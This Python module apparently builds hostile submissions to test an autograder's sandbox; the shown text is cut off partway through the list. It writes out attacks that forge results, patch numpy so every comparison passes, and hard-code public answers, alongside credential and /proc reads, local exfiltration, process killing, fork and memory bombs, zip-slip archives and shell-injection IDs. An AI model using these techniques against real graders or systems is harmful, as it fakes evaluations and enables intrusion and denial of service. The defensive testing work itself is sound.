"""Hostile submissions of ``optim_reg``, built at test time for tests/test_adversarial.py.

Every attacker is a real submission: a folder holding ``optim_reg/optimizers.py`` and
``optim_reg/layers.py`` (the reference modules of ``solutions/optim_reg`` with attack code
appended), or a zip file built with `hostile_archives`. An attack placed in one method
(``SGD.update``, say) touches only the graded part that calls it, so the test can check
that the student's other parts still earn their points.

Attacks that gather information (which files they could read, what the environment holds)
end with ``_report(...)``: it raises ``RuntimeError("REPORT {json}")``, and the feedback
shows that message, so the test reads what the attack saw from the student's own
feedback page. `report` parses it back.

Nothing here is committed binary data, and nothing runs at import: `attackers` builds the
sources for one `Target` (the paths, port and pid the attackers aim at, known only when
the test runs).
"""

from __future__ import annotations

import io
import json
import re
import tarfile
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent, indent

import hostile_archives as hostile

from autograder import course, samples
from autograder.selfcheck import PUBLIC_SEED

OPTIM = course.load("optim_reg")
REPO = course.ROOT
SOLUTIONS = OPTIM.solution_dir
PACKAGE = OPTIM.package
REFERENCE = samples.graded(OPTIM, "reference")
STUBS = samples.graded(OPTIM, "stubs")
OPTIMIZERS = ("SGD", "Momentum", "Nesterov", "AdaGrad", "RMSprop", "Adam")
SECRET_ENV = "AUTOGRADER_SECRET_TOKEN"
REPORT = re.compile(r"REPORT (\{.*\})")

# Appended to a module before any attack: helpers the attacks use.
PRELUDE = '''

# ----------------------------------------------------------------- attack helpers
import json as _json


def _try(fn):
    """What happened when the attack tried ``fn``: "ok[:value]", the exception's name, or
    "EROFS" for a write refused by a read-only mount."""
    try:
        value = fn()
    except BaseException as exc:  # noqa: BLE001 - the attacker wants to know everything
        return "EROFS" if getattr(exc, "errno", None) == 30 else type(exc).__name__
    return "ok" if value is None else "ok:" + str(value)[:40]


def _report(**found):
    raise RuntimeError("REPORT " + _json.dumps(found, sort_keys=True, separators=(",", ":")))
'''


@dataclass(frozen=True)
class Target:
    """What the attackers aim at; the test creates it and checks it afterwards."""

    canary: Path  # a world-writable folder in /tmp: only the sandbox keeps files out of it
    repo: Path  # the kit: solutions/, autograder/graders/ ...
    subs: Path  # the submissions folder of the batch (every student's upload)
    out: Path  # the batch's output folder (results/, feedback/, gradebook.csv)
    port: int  # a TCP port the test listens on, on 127.0.0.1
    grader_pid: int  # the test process (an ancestor of the grading command)
    secret: str  # the value of $AUTOGRADER_SECRET_TOKEN in the grader's environment
    site: Path  # the interpreter's site-packages


@dataclass
class Attacker:
    """One submission: a folder (``files``: relative path -> text) or a zip (``archive``)."""

    name: str  # the folder or zip file name in the submissions folder
    threats: tuple[int, ...]  # numbers of notes/security.md section 4
    files: dict[str, str] = field(default_factory=dict)
    archive: bytes | None = None
    links: dict[str, str] = field(default_factory=dict)  # relative path -> link target

    @property
    def student(self) -> str:
        return self.name.removesuffix(".zip") if self.archive is not None else self.name

    def write(self, subs: Path) -> Path:
        if self.archive is not None:
            path = subs / self.name
            path.write_bytes(self.archive)
            return path
        root = subs / self.name
        root.mkdir(parents=True)
        for relative, text in self.files.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        for relative, target in self.links.items():
            path = root / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.symlink_to(target)
        return root


class Source:
    """The two graded modules of a submission, starting from the reference (or stubs)."""

    def __init__(self, base: dict[str, str] | None = None):
        self.modules = dict(base or REFERENCE)
        self.extra: dict[str, str] = {}
        self._prelude: set[str] = set()

    @staticmethod
    def module_of(cls: str) -> str:
        """The module defining class ``cls`` (the optimizers, or the layers)."""
        return "optimizers.py" if cls in OPTIMIZERS else "layers.py"

    def _append(self, module: str, code: str) -> None:
        if module not in self._prelude:
            self.modules[module] += PRELUDE
            self._prelude.add(module)
        self.modules[module] += "\n" + dedent(code).strip("\n") + "\n"

    def at_import(self, module: str, code: str) -> Source:
        """Run ``code`` when ``module`` is imported (every call of the parts that use it)."""
        self._append(module, "# ---- attack at import time\n" + dedent(code))
        return self

    def patch(self, target: str, signature: str, body: str, then: bool = False) -> Source:
        """Replace method ``Class.method`` by ``body``; with ``then`` the real method runs
        afterwards (so the part still earns its points if the attack changes nothing)."""
        cls, method = target.split(".")
        real, fake = f"_real_{cls}_{method}", f"_attack_{cls}_{method}"
        args = ", ".join(a.split("=")[0].strip() for a in signature.split(",") if a.strip())
        code = f"{real} = {cls}.{method}\n\n\ndef {fake}(self, {signature}):\n"
        code += indent(dedent(body).strip("\n"), "    ") + "\n"
        if then:
            code += f"    return {real}(self, {args})\n"
        code += f"\n\n{cls}.{method} = {fake}\n"
        self._append(self.module_of(cls), code)
        return self

    def add(self, relative: str, text: str) -> Source:
        """An extra file in the submission folder (path relative to the folder)."""
        self.extra[relative] = dedent(text)
        return self

    def folder(self, name: str, threats: tuple[int, ...]) -> Attacker:
        files = {f"{PACKAGE}/{module}": text for module, text in self.modules.items()}
        return Attacker(name, threats, {**files, **self.extra})


def sgd(body: str, then: bool = False) -> Source:
    """The reference with ``SGD.update`` replaced by ``body`` (part sgd, 8 points)."""
    return Source().patch("SGD.update", "params, grads", body, then)


def report(output: str) -> dict:
    """The dict an attack reported with ``_report`` in a test's feedback output."""
    match = REPORT.search(output)
    assert match, f"no REPORT in feedback: {output[:800]}"
    return json.loads(match.group(1))


# ---------------------------------------------------------------------- faking results


def faking_results(t: Target) -> list[Attacker]:
    out = []
    # 1: write the results file (the attacker's own and another student's), the gradebook
    out.append(
        sgd(f"""
        import os
        out = {str(t.out)!r}
        def write(path, text):
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as fh:
                fh.write(text)
        fake = '{{"score": 100, "tests": []}}'
        _report(
            mine=_try(lambda: write(out + "/results/fake-results.json", fake)),
            other=_try(lambda: write(out + "/results/aaa-correct.json", fake)),
            book=_try(lambda: write(out + "/gradebook.csv", "fake-results,100\\n")),
            feedback=_try(lambda: write(out + "/feedback/aaa-correct.md", "# 0 / 100")),
            unlink=_try(lambda: os.unlink(out + "/results/aaa-correct.json")),
            mkdir=_try(lambda: os.makedirs(out + "/results/extra")),
        )
    """).folder("fake-results", (1,))
    )
    # 2: rewrite the harness, the graders and the results writer on disk (SGD); import the
    # comparison; replace the child's result writer in memory by one that claims success
    # without any output (Momentum)
    kit = {
        "child": "autograder/sandbox/child.py",
        "grader": "autograder/graders/optim_reg/test_optimizers.py",
        "results": "autograder/results.py",
        "cli": "release/grade.py",
    }
    out.append(
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            f"""
        import os
        repo = {str(t.repo)!r}
        def append(rel):
            with open(os.path.join(repo, rel), "a") as fh:
                fh.write("# rewritten by an adversary\\n")
        found = {{key: _try(lambda rel=rel: append(rel)) for key, rel in {kit!r}.items()}}
        found["import_compare"] = _try(lambda: __import__("autograder.compare"))
        _report(**found)
    """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
        import sys
        plain = sys.modules["autograder.plain"]
        real = plain.dump
        def forged(obj, folder):
            real({"status": "ok"} if folder.endswith("result") else obj, folder)
        plain.dump = forged
        raise RuntimeError("this update failed, but the record will say ok")
    """,
        )
        .folder("rewrite-harness", (2,))
    )
    # 3: make every comparison numpy offers say "equal", then do nothing
    out.append(
        Source()
        .at_import(
            "optimizers.py",
            """
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
        np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
        np.testing.assert_allclose = lambda *a, **k: None
        np.testing.assert_array_equal = lambda *a, **k: None
    """,
        )
        .patch("SGD.update", "params, grads", "return None")
        .at_import(
            "layers.py",
            """
        np.allclose = lambda *a, **k: True
        np.array_equal = lambda *a, **k: True
    """,
        )
        .patch("Dropout.forward", "x, train_flg=True", "return x.copy()")
        .patch("Dropout.backward", "dout", "return dout.copy()")
        .folder("patch-numpy", (3,))
    )
    # 4: a conftest.py / pytest.ini that would force every test to pass, next to stubs
    conftest = f"""
        import pathlib, pytest
        pathlib.Path({str(t.canary / "conftest-ran")!r}).write_text("collected")
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(item, call):
            outcome = yield
            outcome.get_result().outcome = "passed"
    """
    ini = "[pytest]\naddopts = -p no:cacheprovider\npython_files = *.py\n"
    out.append(
        Source(STUBS)
        .add("conftest.py", conftest)
        .add(f"{PACKAGE}/conftest.py", conftest)
        .add("pytest.ini", ini)
        .add(f"{PACKAGE}/pytest.ini", ini)
        .add("setup.cfg", "[tool:pytest]\naddopts = -p conftest\n")
        .folder("conftest-shipped", (4,))
    )
    # 5: leave the process "successfully" before returning
    out.append(
        Source()
        .patch("SGD.update", "params, grads", "import os\nos._exit(0)")
        .patch("Momentum.update", "params, grads", "import sys\nsys.exit(0)")
        .patch("Nesterov.update", "params, grads", "raise SystemExit('all tests passed')")
        .folder("exits", (5,))
    )
    # 6: print what a naive grader would believe, then flood stdout and stderr
    out.append(
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
                   import json, sys
                   print("PASSED 100/100 FAKE-PASS-MARKER")
                   print(json.dumps({"score": 100, "output": "FAKE-PASS-MARKER"}))
                   for _ in range(3000):
                       print("x" * 10_000)
                       sys.stderr.write("e" * 10_000)
               """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
                   print("PASSED 100/100 FAKE-PASS-MARKER")
                   for i in range(20_000):
                       print("line", i, "x" * 1000)
                   raise AssertionError("FAKE-PASS-MARKER")
               """,
        )
        .folder("prints-fake", (6,))
    )
    # 8: hunt the reference or the expected values through frames and the garbage collector
    out.append(
        sgd("""
        import gc, sys
        words = ("reference", "solution", "graders", "expect", "want", "oracle", "hidden_seed")
        frames, hits = [], set()
        frame = sys._getframe()
        while frame is not None:
            frames.append(frame.f_code.co_name)
            for name in list(frame.f_globals) + list(frame.f_locals):
                if any(w in name.lower() for w in words):
                    hits.add("name:" + name)
            frame = frame.f_back
        for obj in gc.get_objects():
            name = getattr(obj, "__name__", None) if not isinstance(obj, dict) else None
            if isinstance(name, str) and any(w in name.lower() for w in words):
                hits.add("object:" + name)
        for name in sys.modules:
            if any(w in name.lower() for w in words) or name.startswith("_reference_"):
                hits.add("module:" + name)
        _report(frames=frames[:8], hits=sorted(hits)[:10])
    """).folder("frame-hunter", (8,))
    )
    # 9: hide every failure: no traceback, no excepthook, then fail
    out.append(
        Source()
        .at_import(
            "optimizers.py",
            """
        import sys, traceback
        sys.excepthook = lambda *a: None
        traceback.print_exception = lambda *a, **k: None
        traceback.format_exception = lambda *a, **k: []
        traceback.extract_tb = lambda *a, **k: traceback.StackSummary()
    """,
        )
        .patch("SGD.update", "params, grads", "raise ValueError('hidden failure')")
        .folder("hides-traceback", (9,))
    )
    return out


def signals_at_the_grader(t: Target) -> Attacker:
    """7: kill the grader, every process, the process group; then work normally (SGD) or
    report what happened (Momentum). Only built where seccomp or Landlock's signal scope
    stands in the way (the test checks the layers first)."""
    body = f"""
        import os, signal
        tried = {{
            "grader": _try(lambda: os.kill({t.grader_pid}, signal.SIGKILL)),
            "parent": _try(lambda: os.kill(os.getppid(), signal.SIGKILL)),
            "all": _try(lambda: os.kill(-1, signal.SIGKILL)),
            "group": _try(lambda: os.killpg(os.getpgid({t.grader_pid}), signal.SIGKILL)),
            "stop": _try(lambda: os.kill({t.grader_pid}, signal.SIGSTOP)),
        }}
    """
    return (
        Source()
        .patch("SGD.update", "params, grads", body, then=True)
        .patch("Momentum.update", "params, grads", dedent(body) + "\n_report(**tried)")
        .folder("kills-grader", (7,))
    )


# ------------------------------------------------------------- hidden tests, reference


def hidden_material(t: Target) -> list[Attacker]:
    out = []
    repo = t.repo
    # 11: read the reference and the hidden graders (and their seed) by absolute path
    paths = {
        "solution": repo / "solutions/optim_reg/optimizers.py",
        "seed": repo / "autograder/graders/__init__.py",
        "grader": repo / "autograder/graders/optim_reg/test_optimizers.py",
        "mistakes": repo / "solutions/optim_reg/MISTAKES.md",
        "shadow": Path("/etc/shadow"),
    }
    listed = {key: str(path) for key, path in paths.items()}
    out.append(
        sgd(f"""
        import os
        found = {{k: _try(lambda p=p: open(p).read()) for k, p in {listed!r}.items()}}
        found["list_repo"] = _try(lambda: os.listdir({str(repo)!r}))
        found["list_solutions"] = _try(lambda: os.listdir({str(repo / "solutions")!r}))
        _report(**found)
    """).folder("reads-secrets", (11,))
    )
    # 12: list the submissions folder, read another student's files, list the folders
    # around its own materialized copy and the batch's outputs
    peer = t.subs / "aaa-correct" / PACKAGE / "optimizers.py"
    out.append(
        sgd(f"""
        import os, tempfile
        here = os.path.dirname(os.path.abspath(__file__))
        _report(
            subs=_try(lambda: os.listdir({str(t.subs)!r})),
            peer=_try(lambda: open({str(peer)!r}).read()),
            around=_try(lambda: os.listdir(os.path.dirname(os.path.dirname(here)))),
            tmp=_try(lambda: os.listdir("/tmp")),
            out=_try(lambda: os.listdir({str(t.out)!r})),
            own=_try(lambda: sorted(os.listdir(here))[:2]),
        )
    """).folder("snoops-peers", (12,))
    )
    # 13: the grader's command line, environment and memory through /proc
    pid = t.grader_pid
    out.append(
        sgd(f"""
        import os
        _report(
            cmdline=_try(lambda: open("/proc/{pid}/cmdline", "rb").read()),
            environ=_try(lambda: open("/proc/{pid}/environ", "rb").read()),
            mem=_try(lambda: open("/proc/{pid}/mem", "rb").read(16)),
            parent=_try(lambda: open(f"/proc/{{os.getppid()}}/cmdline", "rb").read()),
            init=_try(lambda: open("/proc/1/environ", "rb").read()),
            listing=_try(lambda: os.listdir("/proc")),
        )
    """).folder("reads-proc", (13,))
    )
    # 14: exfiltrate over the network: TCP to the test's listener, UDP, a unix socket, HTTP
    out.append(
        sgd(f"""
        import socket, urllib.request
        def tcp():
            s = socket.create_connection(("127.0.0.1", {t.port}), timeout=0.5)
            s.sendall(b"EXFILTRATED")
        def udp():
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", {t.port}))
        def unix():
            socket.socket(socket.AF_UNIX).connect("/run/systemd/private")
        _report(tcp=_try(tcp), udp=_try(udp), unix=_try(unix),
                http=_try(lambda: urllib.request.urlopen("http://127.0.0.1:{t.port}/",
                                                         timeout=0.5)))
    """).folder("network", (14,))
    )
    # 15: smuggle the hidden inputs out through the feedback: the exception message and
    # printed arrays; and a plain wrong answer, whose feedback must not show the values
    out.append(
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
                   import numpy as np
                   np.set_printoptions(threshold=10**9, precision=17)
                   line = (repr(params) + repr(grads)).replace("\\n", " ")
                   for _ in range(20):
                       print("INPUTS", line)
                   raise ValueError("SMUGGLED " + repr(params) + repr(grads))
               """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
                   for key in params:
                       params[key] += 1000.0
               """,
        )
        .folder("smuggles-inputs", (15,))
    )
    # 18: import the reference, the graders, the kit's private modules by name
    out.append(
        sgd("""
        import importlib
        names = ["solutions", "solutions.optim_reg", "autograder.graders",
                 "autograder.graders.optim_reg", "autograder.reference_oracle",
                 "_reference_optim_reg", "release"]
        _report(**{n: _try(lambda n=n: importlib.import_module(n)) for n in names})
    """).folder("imports-secrets", (18,))
    )
    return out


def hardcoded_public_answers() -> Attacker:
    """17: an SGD that returns the public case's answers, keyed on the inputs it sees.

    The public SGD case is regenerated exactly as the public test builds it (its seed and
    test id, as ``Grade.rng`` does) and its answers hard-coded: the attacker passes the
    public test (the test checks that) and does nothing anywhere else.
    """
    import numpy as np

    nodeid = "test_optimizers.py::test_three_steps[SGD]"
    rng = np.random.default_rng([PUBLIC_SEED, zlib.crc32(nodeid.encode())])
    params = {"W": rng.random((2, 3)), "b": rng.random(3)}
    grads = [
        {
            key: (rng.random(value.shape) + 0.5) * rng.choice([-1.0, 1.0], value.shape)
            for key, value in params.items()
        }
        for _ in range(3)
    ]
    answers, current = [], {key: value.copy() for key, value in params.items()}
    for step in grads:
        for key in current:
            current[key] -= 0.1 * step[key]
        answers.append({key: value.tolist() for key, value in current.items()})
    table = {repr(params["W"].tolist()): answers}
    return sgd(f"""
        import numpy as np
        table = {table!r}
        if not hasattr(self, "_steps"):
            seen = repr(params["W"].tolist()) if "W" in params else None
            self._steps = table.get(seen) or []
            self._i = 0
        if self._i < len(self._steps):
            for k in params:
                params[k][...] = np.array(self._steps[self._i][k])
            self._i += 1
    """).folder("hardcodes-public", (17,))


# --------------------------------------------------------------------- denial of service


def denial_of_service(t: Target) -> list[Attacker]:
    out = []
    canary = t.canary
    # 19, 20, 21, 10, 33 (time): each optimizer wastes time its own way
    out.append(
        Source()
        .patch("SGD.update", "params, grads", "while True:\n    pass")
        .patch("Momentum.update", "params, grads", "import time\ntime.sleep(10**6)")
        .patch(
            "Nesterov.update",
            "params, grads",
            """
                   import signal
                   for s in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP,
                             signal.SIGALRM, signal.SIGUSR1):
                       signal.signal(s, signal.SIG_IGN)
                   while True:
                       pass
               """,
        )
        .patch("AdaGrad.update", "params, grads", "input('answer? ')")
        .patch(
            "RMSprop.update",
            "params, grads",
            f"""
                   import os, threading, time
                   def scribble(path):
                       while True:
                           try:
                               with open(path, "a") as fh:
                                   fh.write("still alive\\n")
                           except OSError:
                               pass
                           time.sleep(0.05)
                   try:
                       if os.fork() == 0:
                           os.setsid()
                           scribble({str(canary / "grandchild.txt")!r})
                   except OSError:
                       pass
                   for path in ({str(canary / "thread.txt")!r}, "scratch.txt"):
                       threading.Thread(target=scribble, args=(path,)).start()
                   time.sleep(10**6)
               """,
        )
        .patch(
            "Adam.update",
            "params, grads",
            """
                   import os, signal
                   os.kill(os.getpid(), signal.SIGSTOP)
                   signal.raise_signal(signal.SIGSTOP)
               """,
            then=True,
        )
        .folder("dos-time", (10, 19, 20, 21, 33))
    )
    # 22: memory bombs of three kinds
    out.append(
        Source()
        .patch("SGD.update", "params, grads", "import numpy as np\nnp.ones(1 << 34)")
        .patch("Momentum.update", "params, grads", "hog = [0] * (1 << 33)")
        .patch(
            "Nesterov.update",
            "params, grads",
            """
                   import numpy as np
                   hog = []
                   while True:
                       hog.append(np.empty(1 << 25))
               """,
        )
        .folder("memory-bomb", (22,))
    )
    # 23: fork bomb, subprocess, os.system, multiprocessing
    spawned = str(canary / "spawned")
    out.append(
        Source()
        .patch("SGD.update", "params, grads", "import os\nwhile True:\n    os.fork()")
        .patch(
            "Momentum.update",
            "params, grads",
            f"""
                   import multiprocessing, os, subprocess
                   _report(
                       subprocess=_try(lambda: subprocess.run(["touch", {spawned!r}])),
                       system=_try(lambda: os.system("touch {spawned}")),
                       popen=_try(lambda: os.popen("touch {spawned}").read()),
                       execv=_try(lambda: os.execv("/bin/sh", ["sh", "-c", "touch {spawned}"])),
                       pool=_try(lambda: multiprocessing.Pool(2)),
                       posix_spawn=_try(lambda: os.posix_spawn("/bin/touch",
                                                               ["touch", {spawned!r}], {{}})),
                   )
               """,
        )
        .folder("spawns", (23,))
    )
    # 24: ten thousand threads
    out.append(
        sgd("""
        import threading, time
        for _ in range(10_000):
            threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
    """).folder("thread-bomb", (24,))
    )
    # 25: daemons meant to outlive the run and rewrite files later
    daemon = f"""
        import os, threading, time
        target = {str(canary / "daemon.txt")!r}
        def loop():
            while True:
                for path in (target, "daemon-scratch.txt"):
                    try:
                        with open(path, "w") as fh:
                            fh.write(str(time.time()))
                    except OSError:
                        pass
                time.sleep(0.1)
        tried = {{"setsid": _try(os.setsid)}}
        try:
            pid = os.fork()
            if pid == 0:
                os.setsid()
                if os.fork() == 0:
                    loop()
                os._exit(0)
            tried["fork"] = "ok"
        except OSError as exc:
            tried["fork"] = type(exc).__name__
        threading.Thread(target=loop, daemon=False).start()
    """
    out.append(
        Source()
        .patch("SGD.update", "params, grads", daemon, then=True)
        .patch("Momentum.update", "params, grads", dedent(daemon) + "\n_report(**tried)")
        .folder("daemon", (25,))
    )
    # 26: hold stdout open in a thread that never ends, while returning normally
    out.append(
        sgd(
            """
        import os, sys, threading, time
        held = os.dup(1)
        def hold():
            while True:
                os.write(held, b"holding stdout\\n")
                time.sleep(0.2)
        threading.Thread(target=hold).start()
        sys.stdout.flush()
    """,
            then=True,
        ).folder("holds-stdout", (26,))
    )
    # 27: fill the disk: one huge file, many files, many big files
    out.append(
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
                   chunk = b"x" * (1 << 20)
                   with open("huge.bin", "wb") as fh:
                       for _ in range(100):
                           fh.write(chunk)
               """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
                   import os
                   made = 0
                   try:
                       while made < 100_000:
                           with open(f"f{made}", "w"):
                               pass
                           made += 1
                   except OSError as exc:
                       for i in range(made):
                           os.unlink(f"f{i}")
                       _report(made=made, error=os.strerror(exc.errno))
               """,
        )
        .patch(
            "Nesterov.update",
            "params, grads",
            """
                   import os
                   written = 0
                   try:
                       for i in range(4096):  # 7 MiB files (each under the size limit)
                           fd = os.open(f"big{i}", os.O_CREAT | os.O_WRONLY, 0o600)
                           try:
                               os.posix_fallocate(fd, 0, 7 << 20)
                           finally:
                               os.close(fd)
                           written += 7
                   except OSError as exc:
                       for name in os.listdir("."):
                           if name.startswith("big"):
                               os.unlink(name)
                       _report(mib=written, error=os.strerror(exc.errno))
               """,
        )
        .folder("fills-disk", (27,))
    )
    # 28: exhaust file descriptors; read devices forever
    out.append(
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
                   import os
                   fds = []
                   try:
                       while len(fds) < 100_000:
                           fds.append(os.open("/dev/null", os.O_RDONLY))
                   except OSError as exc:
                       for fd in fds:
                           os.close(fd)
                       _report(opened=len(fds), error=os.strerror(exc.errno))
               """,
        )
        .patch(
            "Momentum.update",
            "params, grads",
            """
                   _report(zero=_try(lambda: open("/dev/zero", "rb").read(1 << 20)),
                           mem=_try(lambda: open("/dev/mem", "rb").read(16)),
                           disk=_try(lambda: open("/dev/vda", "rb").read(16)),
                           tty=_try(lambda: open("/dev/tty", "rb").read(1)))
               """,
        )
        .folder("exhausts-fds", (28,))
    )
    # 29: heavy work at import time (in layers.py: batchnorm and dropout pay for it)
    out.append(
        Source()
        .at_import(
            "layers.py",
            """
        _w = np.random.default_rng(0).standard_normal((300, 300))
        while True:  # "training a network" at import
            _w = np.tanh(_w @ _w.T / 300)
    """,
        )
        .folder("slow-import", (29,))
    )
    # 30: oversubscription: ask for 64 BLAS threads and run matrix products in 16 threads
    out.append(
        sgd(
            """
        import ctypes, os, threading
        import numpy as np
        os.environ["OMP_NUM_THREADS"] = os.environ["OPENBLAS_NUM_THREADS"] = "64"
        for lib in ("libopenblas.so.0", "libscipy_openblas64_.so"):
            try:
                ctypes.CDLL(lib).openblas_set_num_threads(64)
            except (OSError, AttributeError):
                pass
        a = np.random.default_rng(0).standard_normal((120, 120))
        def work():
            for _ in range(20):
                a @ a
        threads = [threading.Thread(target=work) for _ in range(16)]
        for th in threads:
            th.start()
        for th in threads:
            th.join()
    """,
            then=True,
        ).folder("oversubscribes", (30,))
    )
    return out


# ----------------------------------------------------------------------------- crashes


def crashes() -> list[Attacker]:
    corrupt = """
        import numpy as np
        class Raw:
            def __init__(self, address, size):
                self.__array_interface__ = {"data": (address, False), "shape": (size,),
                                            "typestr": "|u1", "version": 3}
    """
    return [
        Source()
        .patch("SGD.update", "params, grads", "import ctypes\nctypes.string_at(0)")
        .folder("segfaults", (31,)),
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            """
            import sys
            sys.setrecursionlimit(10**6)
            def down(n):
                return list(map(down, [n + 1]))
            down(0)
        """,
        )
        .patch("Momentum.update", "params, grads", "import os\nos.abort()")
        .folder("recursion-abort", (32,)),
        # 34: raw memory access without ctypes: clobber an object header (crash), and
        # silently zero the gradient arrays' buffers (wrong values)
        Source()
        .patch(
            "SGD.update",
            "params, grads",
            dedent(corrupt)
            + dedent("""
            victim = [1, 2, 3]
            np.asarray(Raw(id(victim), 16))[8:16] = 0  # the header's type pointer
            repr(victim)
        """),
        )
        .patch(
            "Momentum.update",
            "params, grads",
            dedent(corrupt)
            + dedent("""
            for g in grads.values():
                np.asarray(Raw(g.ctypes.data, g.nbytes))[:] = 0
        """),
            then=True,
        )
        .folder("corrupts-memory", (34,)),
    ]


# ---------------------------------------------------------------------------- archives


def _tar(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
        link = tarfile.TarInfo("evil")
        link.type = tarfile.SYMTYPE
        link.linkname = str(SOLUTIONS)
        archive.addfile(link)
    return buffer.getvalue()


def _many_entries(count: int) -> bytes:
    """The reference and ``count`` empty files (zip64: more than 65535 entries)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in REFERENCE.items():
            archive.writestr(f"{PACKAGE}/{name}", text)
        for i in range(count):
            archive.writestr(f"f{i}.txt", b"")
    return buffer.getvalue()


def archives(t: Target) -> list[Attacker]:
    ref = {f"{PACKAGE}/{k}": v for k, v in REFERENCE.items()}
    slip = str(t.canary / "slipped.py")
    tar = _tar(
        {
            "../../tarslip.py": b"x = 1\n",
            f"{PACKAGE}/optimizers.py": REFERENCE["optimizers.py"].encode(),
        }
    )
    inner = hostile.zip_of(ref)
    return [
        Attacker("zip-slip.zip", (35,), archive=hostile.zip_of({**ref, "../../slipped.py": "x"})),
        Attacker("abs-path.zip", (35,), archive=hostile.zip_of({**ref, slip: "x = 1\n"})),
        Attacker("tar-renamed.zip", (36, 37), archive=tar),
        Attacker(
            "symlink-member.zip",
            (38,),
            archive=hostile.zip_with_symlink(
                f"{PACKAGE}/optimizers.py",
                str(SOLUTIONS / "optimizers.py"),
                {f"{PACKAGE}/layers.py": REFERENCE["layers.py"]},
            ),
        ),
        Attacker("zip-bomb.zip", (39,), archive=hostile.zip_bomb(f"{PACKAGE}/optimizers.py")),
        Attacker("overlap-bomb.zip", (40,), archive=hostile.overlapping_bomb()),
        Attacker("many-entries.zip", (41,), archive=_many_entries(100_000)),
        Attacker("nested.zip", (41,), archive=hostile.zip_of({"inner.zip": inner})),
        Attacker("encrypted.zip", (43,), archive=hostile.encrypted(f"{PACKAGE}/optimizers.py")),
        Attacker("truncated.zip", (43,), archive=hostile.zip_of(ref)[:600]),
        Attacker("not-a-zip.zip", (43,), archive=b"%PDF-1.4 this is my report\n"),
        Attacker("empty.zip", (43,), archive=hostile.empty_zip()),
    ]


def symlinked_folder() -> Attacker:
    """38 (folders): optimizers.py is a link to the reference; layers.py is real."""
    return Attacker(
        "symlink-folder",
        (38,),
        {f"{PACKAGE}/layers.py": REFERENCE["layers.py"]},
        links={
            f"{PACKAGE}/optimizers.py": str(SOLUTIONS / "optimizers.py"),
            "graders": str(REPO / "autograder" / "graders"),
        },
    )


def shadowing(t: Target) -> Attacker:
    """42: modules that would shadow numpy, site customisation and pytest, next to the
    graded modules (in the package folder and at the top), all creating a canary."""
    plant = f"import pathlib\npathlib.Path({str(t.canary / 'shadow-ran')!r}).write_text('ran')\n"
    source = Source()
    for folder in ("", f"{PACKAGE}/"):
        for name in (
            "numpy.py",
            "sitecustomize.py",
            "usercustomize.py",
            "conftest.py",
            "json.py",
            "autograder.py",
        ):
            source.add(folder + name, plant + "raise SystemExit(0)\n")
        source.add(folder + "evil.pth", "import os; os.system('touch /tmp/pth-ran')\n")
    return source.folder("shadows", (42,))


# Shell metacharacters (a grader that interpolated them into a command would create
# odd-id-canary in its working folder), dashes, dots, a newline, Hangul, 200 characters.
ODD_NAMES = (
    "$(touch odd-id-canary)",
    "; touch odd-id-canary #",
    "`touch odd-id-canary`",
    "-rf --no-preserve-root",
    "x..y",
    "a\nb",
    "김민지 (홍길동)",
    "x" * 200,
    "CON",
    "a'b\"c",
)


def odd_ids() -> list[Attacker]:
    """44: ids with shell metacharacters, dots, dashes, newlines, Hangul, 200 characters.

    Two of them hold the reference (graded in full), the rest empty zips (rejected fast).
    """
    out = []
    for i, name in enumerate(ODD_NAMES):
        if i < 2:
            out.append(Source().folder(name, (44,)))
        else:
            zip_name = name if name.endswith(".zip") else name + ".zip"
            out.append(Attacker(zip_name, (44,), archive=hostile.empty_zip()))
    return out


# ------------------------------------------------------------------------ output tricks


def output_tricks(t: Target) -> list[Attacker]:
    bn = "BatchNormalization.forward"
    sig = "x, train_flg=True"
    forged_dump = """
        import json, os
        import numpy as np
        import autograder.plain as plain
        _real_dump = plain.dump
        def _forged_dump(obj, folder):
            if not str(folder).endswith("out"):
                return _real_dump(obj, folder)
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "data.json"), "w") as fh:
                json.dump({"format": "plain", "version": 2, "root": {"array": _NODE}}, fh)
            _write_blob(os.path.join(folder, "arrays.bin"))
        plain.dump = _forged_dump
    """
    return [
        # 45: an object whose __eq__, __array__ and __array_function__ all say "equal"
        Source()
        .patch(
            bn,
            sig,
            """
            class Liar:
                def __eq__(self, other): return True
                def __array__(self, dtype=None, copy=None): return np.ones(x.shape)
                def __array_function__(self, *a, **k): return True
                def __len__(self): return len(x)
            return Liar()
        """,
        )
        .folder("liar-object", (45,)),
        # 46: an ndarray subclass whose ufuncs and comparisons always say "equal"
        Source()
        .patch(
            bn,
            sig,
            """
            class Sneaky(np.ndarray):
                def __array_ufunc__(self, *a, **k): return True
                def __eq__(self, other): return True
                def __ne__(self, other): return False
            return np.zeros(x.shape).view(Sneaky)
        """,
        )
        .folder("ufunc-subclass", (46,)),
        # 47: NaN (2-D inputs) and infinities (4-D inputs)
        Source()
        .patch(bn, sig, "return np.full(x.shape, np.nan if x.ndim == 2 else np.inf)")
